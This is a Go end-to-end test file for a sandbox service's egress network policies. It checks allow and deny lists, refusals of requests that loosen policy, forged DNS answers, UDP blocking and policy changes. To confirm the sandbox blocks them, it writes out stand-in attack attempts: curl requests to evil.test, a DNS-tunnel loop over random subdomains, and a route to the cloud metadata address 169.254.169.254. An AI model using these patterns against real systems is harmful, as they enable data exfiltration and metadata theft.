package e2e

import (
	"context"
	"crypto/rand"
	"fmt"
	"net"
	"net/netip"
	"os/exec"
	"strings"
	"testing"
	"time"

	baydocker "github.com/shipyard-dev/shipyard/internal/bay/docker"
	"github.com/shipyard-dev/shipyard/internal/bay/egress"
	"github.com/shipyard-dev/shipyard/internal/bay/egress/egresstest"
)

// The test's internet: web hosts on ports 80 and 443 of a loopback address of this host that
// no one else uses, and a DNS server that knows their names (and one forged answer). Bay's
// egress gateway reaches them because the operator allows that one address
// (security.allowed_hosts); its resolver asks only the test's DNS server.
func egressInternet(t *testing.T) (*egresstest.Internet, netip.Addr) {
	var b [2]byte
	_, _ = rand.Read(b[:])
	host := netip.AddrFrom4([4]byte{127, 77, b[0], max(b[1], 2)})
	in := egresstest.Start(t, host, 80, 443)
	for _, n := range []string{egresstest.HTTPSName, "api.example.com", "secret.example.com", "evil.test"} {
		in.Set(n, host)
	}
	// An allowed name whose answer points at the cloud metadata address.
	in.Set("forged.example.com", netip.MustParseAddr("169.254.169.254"))
	return in, host
}

const policyProfiles = `profiles:
  - id: python-default
    image: "ship:latest"
    capabilities: [filesystem, shell, python]
  - id: listed
    image: "ship:latest"
    capabilities: [filesystem, shell, python]
    network: {mode: allowlist, allow: [example.com, "*.example.com"], deny: [secret.example.com]}
  - id: offline
    image: "ship:latest"
    capabilities: [filesystem, shell, python]
    network: {mode: none}
`

func TestNetworkPolicies(t *testing.T) {
	cli := docker(t)
	if exec.Command("nft", "list", "table", "inet", egress.Table).Run() != nil {
		t.Cleanup(func() { _ = exec.Command("nft", "delete", "table", "inet", egress.Table).Run() })
	}
	in, host := egressInternet(t)
	b := startBay(t, bayOptions{profiles: policyProfiles, env: []string{
		fmt.Sprintf(`BAY_SECURITY__ALLOWED_HOSTS=["%s/32"]`, host),
		fmt.Sprintf(`BAY_SECURITY__EGRESS_DNS_UPSTREAM=["%s"]`, in.DNS),
	}})

	// The ceiling: a create request may not loosen its profile's policy.
	r := b.do("POST", "/v1/sandboxes", map[string]any{"profile": "offline", "network": map[string]any{"mode": "open"}}, nil)
	expectError(t, r, 400, "validation_error", "create loosening none")
	contains(t, r.Str("error.message"), "network.mode", "the refusal names the field")
	r = b.do("POST", "/v1/sandboxes", map[string]any{"profile": "listed", "network": map[string]any{"mode": "allowlist", "allow": []string{"evil.test"}}}, nil)
	expectError(t, r, 400, "validation_error", "create widening the allow list")
	contains(t, r.Str("error.message"), "network.allow[0]", "the refusal names the entry")

	id := b.create(map[string]any{"profile": "listed"}, nil).Str("id")
	if got := b.get(id); got.Str("network.mode") != "allowlist" || !strings.Contains(got.String(), `"deny":["secret.example.com"]`) {
		t.Fatalf("detail: %s", got)
	}
	b.writeFile(id, "ca.pem", in.CertPEM())
	sh := func(cmd string) string { return strings.TrimSpace(b.shellOK(id, cmd)) }
	// curl's exit status comes last: 0 ok, 6 name not resolved, 7 no connection, 22 HTTP error.
	curl := func(args string) string { return sh("curl -sS -m 10 " + args + " 2>&1; echo \" rc=$?\"") }

	t.Run("allowed names over the proxy and transparently", func(t *testing.T) {
		for _, c := range []struct{ args, want string }{
			{"http://api.example.com/", "hello from api.example.com rc=0"},
			{"--noproxy '*' http://api.example.com/", "hello from api.example.com rc=0"},
			{"--cacert ca.pem https://example.com/", "hello from example.com rc=0"},
			{"--noproxy '*' --cacert ca.pem https://example.com/", "hello from example.com rc=0"},
		} {
			if got := curl(c.args); got != c.want {
				t.Errorf("curl %s: %q, want %q", c.args, got, c.want)
			}
		}
	})

	t.Run("refusals fail fast and say why", func(t *testing.T) {
		began := time.Now()
		if got := curl("--noproxy '*' http://evil.test/"); !strings.HasSuffix(got, "rc=6") {
			t.Errorf("refused name without the proxy: %q, want not resolved", got)
		}
		if got := curl("http://evil.test/"); !strings.Contains(got, "evil.test port 80 is refused by the sandbox's network policy") {
			t.Errorf("refused name through the proxy: %q", got)
		}
		if got := curl("http://secret.example.com/"); !strings.Contains(got, "deny secret.example.com") {
			t.Errorf("denied name: %q", got)
		}
		// A direct address: no route out without the proxy, refused through it.
		if got := curl(fmt.Sprintf("--noproxy '*' http://%s/", host)); !strings.HasSuffix(got, "rc=7") {
			t.Errorf("direct address: %q, want no connection", got)
		}
		if got := curl(fmt.Sprintf("http://%s/", host)); !strings.Contains(got, "not in allow list") {
			t.Errorf("direct address through the proxy: %q", got)
		}
		// An allowed name answered with a blocked address.
		for _, args := range []string{"http://forged.example.com/", "--noproxy '*' http://forged.example.com/"} {
			if got := curl(args); !strings.Contains(got, "blocked address 169.254.169.254") {
				t.Errorf("forged answer (%s): %q", args, got)
			}
		}
		if d := time.Since(began); d > 30*time.Second {
			t.Errorf("six refusals took %v", d)
		}
	})

	t.Run("a DNS tunnel through a refused zone carries nothing out", func(t *testing.T) {
		out := sh(`n=0; for i in $(seq 100); do getent hosts "$(head -c 12 /dev/urandom | od -An -tx1 | tr -d ' \n').t.evil.test" >/dev/null && n=$((n+1)); done; echo $n`)
		if out != "0" {
			t.Errorf("%s of 100 random subdomains resolved", out)
		}
		if q := in.Queries("evil.test"); q != 0 {
			t.Errorf("%d queries for the refused zone reached the upstream", q)
		}
	})

	t.Run("UDP other than DNS is dropped", func(t *testing.T) {
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		gw, _ := engineGateway(t, ctx, cli, baydocker.EgressNetwork)
		pc, err := net.ListenPacket("udp4", net.JoinHostPort(gw.String(), "0"))
		if err != nil {
			t.Fatal(err)
		}
		defer pc.Close()
		sh(fmt.Sprintf(`python3 -c "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('%s', %d))"; true`,
			gw, pc.LocalAddr().(*net.UDPAddr).Port))
		_ = pc.SetReadDeadline(time.Now().Add(time.Second))
		if n, from, err := pc.ReadFrom(make([]byte, 16)); err == nil {
			t.Errorf("a UDP datagram reached the host: %d bytes from %v", n, from)
		}
	})

	t.Run("events", func(t *testing.T) {
		ev := expect(t, b.do("GET", "/v1/sandboxes/"+id+"/network/events", nil, nil), 200, "events")
		for _, want := range []string{`"kind":"dns","host":"evil.test"`, `"kind":"http","host":"evil.test","port":80`,
			`"host":"forged.example.com"`, `blocked address 169.254.169.254`, `"host":"` + host.String() + `"`} {
			contains(t, ev.String(), want, "events")
		}
		if d, _ := ev.Get("denied").(float64); d < 100 {
			t.Errorf("denied = %v, want the tunnel's 100 and more", ev.Get("denied"))
		}
		expectError(t, b.do("GET", "/v1/sandboxes/sandbox-000000000000/network/events", nil, nil), 404, "not_found", "unknown sandbox")
	})

	t.Run("PATCH", func(t *testing.T) {
		r := b.do("PATCH", "/v1/sandboxes/"+id+"/network", map[string]any{"mode": "open"}, nil)
		expectError(t, r, 400, "validation_error", "loosening PATCH")
		contains(t, r.Str("error.message"), "network.mode", "the refusal names the field")
		// Narrower: applied in place, at once.
		expect(t, b.do("PATCH", "/v1/sandboxes/"+id+"/network", map[string]any{"mode": "allowlist", "allow": []string{"example.com"}}, nil), 200, "narrowing PATCH")
		began := time.Now()
		if got := curl("http://api.example.com/"); !strings.Contains(got, "not in allow list") {
			t.Errorf("after the PATCH: %q", got)
		}
		if got := curl("--cacert ca.pem https://example.com/"); got != "hello from example.com rc=0" {
			t.Errorf("the name left in the list: %q", got)
		}
		t.Logf("PATCH in place took effect within %v", time.Since(began))
		// A change of mode restarts the compute under the new policy (files kept).
		r = expect(t, b.do("PATCH", "/v1/sandboxes/"+id+"/network", map[string]any{"mode": "none"}, nil), 200, "PATCH to none")
		if r.Str("network.mode") != "none" {
			t.Errorf("detail after PATCH: %s", r)
		}
		if got := curl("--noproxy '*' http://example.com/"); !strings.HasSuffix(got, "rc=6") {
			t.Errorf("mode none after the PATCH: %q", got)
		}
		if got := sh("cat ca.pem | head -1"); got != "-----BEGIN CERTIFICATE-----" {
			t.Errorf("files after the restart: %q", got)
		}
	})

	t.Run("none reaches nothing", func(t *testing.T) {
		off := b.create(map[string]any{"profile": "offline"}, nil).Str("id")
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		gw, _ := engineGateway(t, ctx, cli, baydocker.NoneNetwork)
		listener := serveOK(t, net.JoinHostPort(gw.String(), "0"))
		began := time.Now()
		out := strings.TrimSpace(b.shellOK(off, fmt.Sprintf(
			`for u in http://%s/ http://%s/ http://example.com/; do curl -s -m 5 -o /dev/null $u; echo -n "$? "; done`, listener, host)))
		if out != "7 7 6" {
			t.Errorf("from a sandbox without network: %q, want 7 7 6 (no connection, no connection, no name)", out)
		}
		if d := time.Since(began); d > 10*time.Second {
			t.Errorf("refusals took %v, want them prompt", d)
		}
		if got := b.get(off).Str("network.mode"); got != "none" {
			t.Errorf("detail: mode %q", got)
		}
	})
}
